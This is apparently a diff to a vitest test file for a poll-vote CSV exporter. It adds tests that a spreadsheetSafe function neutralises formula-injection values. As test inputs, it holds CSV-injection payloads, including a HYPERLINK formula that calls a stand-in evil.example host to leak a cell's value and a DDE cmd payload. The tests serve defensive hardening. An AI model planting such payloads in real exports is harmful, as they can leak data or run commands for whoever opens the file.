@@ -5,7 +5,7 @@ import { Readable } from 'node:stream';
 import { gunzipSync } from 'node:zlib';
 import { decodeTime } from 'ulid';
 import { describe, expect, it } from 'vitest';
-import { CSV_HEADER, csvField, csvRow } from '../../functions/exporter/csv.ts';
+import { CSV_HEADER, csvField, csvRow, spreadsheetSafe } from '../../functions/exporter/csv.ts';
 import { FolderSink } from '../../functions/exporter/folder-sink.ts';
 import { partKey } from '../../functions/exporter/layout.ts';
 import { MANIFEST_MAX_URIS, quickSightManifest } from '../../functions/exporter/manifest.ts';
@@ -20,11 +20,15 @@ describe('CSV fields', () => {
     expect(csvField('')).toBe('');
   });
 
-  it('quotes values with commas, quotes or line breaks and doubles inner quotes', () => {
+  it('quotes values with commas or quotes and doubles inner quotes', () => {
     expect(csvField('a,b')).toBe('"a,b"');
     expect(csvField('say "hi"')).toBe('"say ""hi"""');
-    expect(csvField('two\nlines')).toBe('"two\nlines"');
-    expect(csvField('cr\r')).toBe('"cr\r"');
+  });
+
+  it('quotes a neutralised formula that holds a comma or a quote', () => {
+    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe(
+      '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"',
+    );
   });
 
   it('writes rows that parse back to the same fields', () => {
@@ -32,7 +36,7 @@ describe('CSV fields', () => {
       voteId: '01J0000000AAAAAAAAAAAAAAAA',
       pollId: 'p1',
       optionId: 'opt1',
-      optionLabel: 'A, "B"\nC',
+      optionLabel: 'A, "B" C',
       castAt: '2025-01-01T00:00:00.000Z',
       ageGroup: '',
       region: 'EU',
@@ -40,8 +44,42 @@ describe('CSV fields', () => {
     };
     expect(parseCsv(CSV_HEADER + csvRow(row))).toEqual([
       ['vote_id', 'poll_id', 'option_id', 'option_label', 'cast_at', 'age_group', 'region', 'gender'],
-      [row.voteId, 'p1', 'opt1', 'A, "B"\nC', row.castAt, '', 'EU', ''],
+      [row.voteId, 'p1', 'opt1', 'A, "B" C', row.castAt, '', 'EU', ''],
     ]);
+  });
+});
+
+// The rule of docs/exports.md, "Spreadsheet safety": OWASP's list of characters that start a formula
+// (https://owasp.org/www-community/attacks/CSV_Injection) and ASVS 1.2.10 (NUL), stricter where it is cheap.
+describe('spreadsheet safety', () => {
+  it.each([
+    ['an equals sign', '=1+1', "'=1+1"],
+    ['a HYPERLINK formula', '=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'],
+    ['a DDE payload', "=cmd|'/c calc'!A0", "'=cmd|'/c calc'!A0"],
+    ['a plus sign', '+1+1', "'+1+1"],
+    ['a minus sign', '-2+3', "'-2+3"],
+    ['an at sign', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['a formula behind spaces', '  =1+1', "'  =1+1"],
+    ['a formula behind a no-break space', '\u00a0=1+1', "'\u00a0=1+1"],
+    ['a full-width equals sign', '\uff1d1+1', "'\uff1d1+1"],
+    ['a full-width at sign', '\uff20SUM(A1)', "'\uff20SUM(A1)"],
+    ['a leading tab', '\t=1+1', '\ufffd=1+1'],
+    ['a leading carriage return', '\r=1+1', '\ufffd=1+1'],
+    ['a line feed inside', 'two\nlines', 'two\ufffdlines'],
+    ['a NUL byte', 'a\u0000b', 'a\ufffdb'],
+    ['DEL and a C1 control', 'a\u007fb\u0085c', 'a\ufffdb\ufffdc'],
+    ['a line separator', 'a\u2028b', 'a\ufffdb'],
+    ['a lone surrogate', 'a\ud800b', 'a\ufffdb'],
+    ['a negative number', '-1', '-1'],
+    ['a negative decimal', '-2.5', '-2.5'],
+    ['a signed positive number', '+3', '+3'],
+    ['a negative number with a formula after it', '-1+cmd', "'-1+cmd"],
+    ['a minus in the middle', 'Red - dark', 'Red - dark'],
+    ['an equals sign in the middle', 'a=b', 'a=b'],
+    ['an emoji with a zero-width joiner', '👩\u200d💻', '👩\u200d💻'],
+    ['an empty value', '', ''],
+  ])('handles %s', (_case, value, safe) => {
+    expect(spreadsheetSafe(value)).toBe(safe);
   });
 });
 
